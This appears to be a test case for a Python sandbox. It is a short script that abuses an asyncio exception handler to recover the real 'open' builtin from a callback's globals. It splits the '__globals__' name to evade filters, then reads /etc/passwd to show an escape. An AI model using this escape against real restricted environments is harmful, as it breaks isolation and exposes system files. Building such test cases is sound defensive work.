# tries: an exception handler is told the handle and its callback
# class: async
# stops: 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(function):
    space = getattr(function, "__glo" + "bals__")["__builtins__"]
    return (space if isinstance(space, dict) else vars(space))["open"]


def handler(loop, context):
    use(pick(context["handle"]._callback))


async def main():
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(handler)
    future = asyncio.Future()
    group = asyncio.gather(future)
    group.cancelled = None
    future.set_result(1)
    loop.call_soon(asyncio.create_task, 1)
    await asyncio.sleep(0)
    await asyncio.sleep(0)


asyncio.run(main())
